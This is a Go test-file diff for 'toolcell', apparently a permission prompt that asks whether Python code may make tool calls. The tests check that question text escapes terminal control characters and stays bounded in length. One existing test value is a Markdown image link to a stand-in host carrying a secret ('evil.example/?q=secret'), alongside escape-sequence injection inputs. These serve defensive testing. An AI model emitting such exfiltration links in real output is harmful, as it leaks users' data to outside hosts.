@@ -69,6 +69,32 @@ func TestReasonsAreReadable(t *testing.T) {
 	}
 }
 
+// TestATerminalShowsPrintableCharactersAsThemselves: the escapes against Markdown would
+// make the rule that asks unreadable there.
+func TestATerminalShowsPrintableCharactersAsThemselves(t *testing.T) {
+	q := Question{CallsBefore: 1, Calls: []Call{{
+		Server: "b[a]nk", Tool: `t"\u0041`, Reasons: []string{`policy ~/p, [servers.bank] ask = "transfer" \ ` + "\x1b\n"},
+		Arguments: json.RawMessage(`{"a_b":"\"*Zoë*\" \\ \n \u001b https://e/__c__","d":[1.50,null]}`),
+	}}}
+	want := "toolcell asks: may Python code make this call?\n" + `server: "b[a]nk"
+tool: "t\"\\u0041"
+reason: ` + "`" + `policy ~/p, [servers.bank] ask = "transfer" \\ \u001b\u000a` + "`" + `
+calls before: 1
+arguments: {"a_b":"\"*Zo\u00eb*\" \\ \n \u001b https://e/__c__","d":[1.50,null]}`
+	if got := q.TerminalText(); got != want {
+		t.Errorf("got\n%s\nwant\n%s", got, want)
+	}
+	packages := Question{Subject: "network access to https://pypi.org", Reasons: []string{`[network] ask = "pypi.org"`}}
+	want = "toolcell asks before Python code runs: may it have `network access to https://pypi.org`?\nreason: `[network] ask = \"pypi.org\"`"
+	if got := packages.WholeTerminalText(); got != want {
+		t.Errorf("got\n%s\nwant\n%s", got, want)
+	}
+	form := Question{Form: &Form{Server: "s", Message: `a \u0041 [x]`}}
+	if got := form.TerminalText(); got != form.Text() {
+		t.Errorf("got %s, want %s", got, form.Text())
+	}
+}
+
 func TestForeignTextMeansNothingInAQuestion(t *testing.T) {
 	for name, value := range map[string]string{
 		"a picture":        "![x](https://evil.example/?q=secret)",
@@ -119,7 +145,7 @@ var (
 // checkText reports what in the text of a question of toolcell's own is more than text.
 func checkText(t *testing.T, q *Question) {
 	t.Helper()
-	for _, text := range []string{q.Text(), q.WholeText()} {
+	for _, text := range []string{q.Text(), q.wholeText()} {
 		for line := range strings.SplitSeq(text, "\n") {
 			for i := range len(line) {
 				if line[i] < ' ' || line[i] > '~' {
@@ -161,7 +187,7 @@ func TestLongArgumentsAreShownByTheirEnds(t *testing.T) {
 	if len(text) > 2500 {
 		t.Errorf("the text has %d characters", len(text))
 	}
-	if !strings.Contains(q.WholeText(), quoteJSON(c.Arguments)) {
+	if !strings.Contains(q.wholeText(), quoteJSON(c.Arguments)) {
 		t.Error("the whole text does not have all arguments")
 	}
 	for _, choice := range q.Choices() {
@@ -184,7 +210,7 @@ func TestManyCallsAreListedUpToTen(t *testing.T) {
 	if len(text) > 4000 {
 		t.Errorf("the text has %d characters", len(text))
 	}
-	if whole := q.WholeText(); !strings.Contains(whole, `100. server "s", tool "t99", arguments: {"n":99,`) {
+	if whole := q.wholeText(); !strings.Contains(whole, `100. server "s", tool "t99", arguments: {"n":99,`) {
 		t.Error("the whole text does not have all calls")
 	}
 }
@@ -202,7 +228,7 @@ func TestEmptyLinesDoNotHideWhoAsks(t *testing.T) {
 // TestTheWholeTextIsBounded: the host would hold several copies of it.
 func TestTheWholeTextIsBounded(t *testing.T) {
 	q := Question{Calls: []Call{{Server: "s", Tool: "t", Arguments: json.RawMessage(`["` + strings.Repeat("é", 8<<20) + `"]`)}}}
-	if n := len(q.WholeText()); n > maxWhole+5000 {
+	if n := len(q.wholeText()); n > maxWhole+5000 {
 		t.Errorf("%d characters", n)
 	}
 }
@@ -232,7 +258,17 @@ func FuzzText(f *testing.F) {
 				t.Errorf("the reason %q is shown as %s", reason, line)
 			}
 		}
-		_, shown, _ := strings.Cut(q.WholeText(), "\narguments: ")
+		for line := range strings.SplitSeq(q.WholeTerminalText(), "\n") {
+			for i := range len(line) {
+				if line[i] < ' ' || line[i] > '~' {
+					t.Fatalf("character %#x in %q", line[i], line)
+				}
+			}
+			if !begun.MatchString(line) {
+				t.Fatalf("the line %q is none of a question's", line)
+			}
+		}
+		_, shown, _ := strings.Cut(q.WholeTerminalText(), "\narguments: ")
 		if shown, _, _ = strings.Cut(shown, "\n"); q.cut() {
 			return
 		}
@@ -240,7 +276,7 @@ func FuzzText(f *testing.F) {
 			t.Errorf("%s is shown as %s", c.Arguments, shown)
 		}
 		var gotServer string
-		line := strings.Split(q.Text(), "\n")[1]
+		line := strings.Split(q.TerminalText(), "\n")[1]
 		if err := json.Unmarshal([]byte(strings.TrimPrefix(line, "server: ")), &gotServer); err != nil || gotServer != strings.ToValidUTF8(server, "\uFFFD") && utf8.ValidString(server) {
 			t.Errorf("server %q is shown as %s", server, line)
 		}
